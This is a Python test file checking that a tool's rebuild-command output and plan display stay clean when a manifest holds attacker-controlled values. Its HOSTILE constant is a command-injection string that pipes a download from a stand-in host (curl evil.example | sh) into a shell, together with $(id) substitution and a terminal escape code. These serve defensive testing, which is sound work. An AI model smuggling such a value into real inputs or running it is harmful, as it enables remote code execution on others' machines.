"""The command that rebuilds a plan contains only valid fields, whatever a stranger wrote into the manifest."""

import shlex

import pytest

from calotype.backends import compatibility
from calotype.errors import SourceError
from calotype.export.builder.spec import BuildSpec, spec_from
from calotype.plan.command import SPEC, rebuild_command
from calotype.plan.inspection import format_plan
from calotype.plan.plan import read_plan

HOSTILE = "x; curl evil.example | sh #\n\x1b[2J$(id)`id`"


def test_the_fields_of_a_build_become_its_options(tmp_path):
    options = {"model": "demo", "output": tmp_path, "backend": "openvino", "precision": "bf16", "height": "64:128:256"}
    options |= {"max_loss": "psnr>=35", "fallback": True, "scheduler": ["DPM++ 2M Karras", "euler"], "proof": 3}
    options |= {"controlnet": "demo-canny", "fit": "euler:20:10", "style_aligned": True}
    spec = spec_from(options).to_json()
    spec.pop("output")
    SPEC(spec, "spec")
    words = shlex.split(rebuild_command({"spec": spec}, tmp_path))
    assert words[:3] == ["calotype", "build", "demo"]
    parsed = {
        "output" if flag == "-o" else flag.strip("-").replace("-", "_"): value for flag, value in pairs(words[3:])
    }
    again = spec_from({"model": "demo", **parsed, "scheduler": options["scheduler"]})
    assert again == BuildSpec(**{f: getattr(spec_from(options), f) for f in vars(again)})


def pairs(words):
    """Yield options with their values; the value of a flag is True."""
    for i, word in enumerate(words):
        if word.startswith("-"):
            following = words[i + 1] if i + 1 < len(words) and not words[i + 1].startswith("-") else True
            yield word, following


def test_names_of_files_are_placeholders(tmp_path):
    spec = {"model": "/home/me/model", "lora": ["a.safetensors:0.5", "b"], "vae": HOSTILE, "prompts": HOSTILE}
    command = rebuild_command({"spec": spec}, "plan")
    assert command == "calotype build MODEL --lora LORA --lora LORA --vae VAE --prompts FILE -o plan"


@pytest.mark.parametrize("build", [None, 3, {}, {"command": HOSTILE}, {"spec": HOSTILE}, {"spec": {"model": HOSTILE}}])
def test_without_a_valid_record_there_is_still_a_command(build):
    assert rebuild_command(build, "plan") == "calotype build MODEL -o plan"


SPEC_FIELDS = ["backend", "precision", "weights", "height", "engine", "max_loss", "scheduler", "steps", "proof", "fit"]


@pytest.mark.parametrize("name", [*SPEC_FIELDS, "offline"])
def test_no_free_text_is_printed(name):
    for value in (HOSTILE, [HOSTILE], "-x", ["--lora"], {HOSTILE: 1}, "a" * 9999):
        assert rebuild_command({"spec": {name: value}}, "plan") == "calotype build MODEL -o plan"


def test_a_hostile_command_is_not_shown(editable):
    editable.data["build"] |= {"command": f"calotype build {HOSTILE}"}
    editable.data["build"]["spec"]["model"] = HOSTILE
    plan = read_plan(editable.seal())
    shown = format_plan(plan)
    assert "\x1b" not in shown
    (line,) = (line for line in shown.splitlines() if "calotype build" in line)
    assert "curl" not in line
    (editable.folder / "unet" / "config.json").unlink()
    with pytest.raises(SourceError) as caught:
        read_plan(editable.folder)
    assert "calotype build MODEL" in str(caught.value)
    assert "curl" not in str(caught.value)


def test_a_hostile_version_is_refused(editable, monkeypatch):
    monkeypatch.setattr(compatibility, "installed", lambda _: "1.0")
    editable.data["build"]["needs"] = {"onnxruntime": f"99'{HOSTILE}"}
    with pytest.raises(SourceError, match="needs"):
        read_plan(editable.seal())
